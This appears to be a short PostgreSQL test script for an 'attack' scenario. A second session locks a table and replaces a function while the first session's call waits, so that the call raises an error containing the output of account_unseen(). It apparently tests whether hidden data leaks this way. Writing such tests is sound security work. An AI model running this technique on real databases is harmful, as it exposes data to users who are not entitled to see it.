-- Has every error end the session, and a function replaced while its call waits: nobody is asked then.
-- wants: read
-- attack:
CREATE FUNCTION look(int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN $1; END $$;
SET exit_on_error = on;
SELECT pg_sleep(0.5);
-- session: second
BEGIN;
LOCK TABLE mallory_own;
CREATE OR REPLACE FUNCTION look(int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION '%', account_unseen($1); END $$;
-- session: first
-- without waiting
SELECT look(id) FROM mallory_own;
-- without waiting
-- session: second
SELECT pg_sleep(1);
COMMIT;
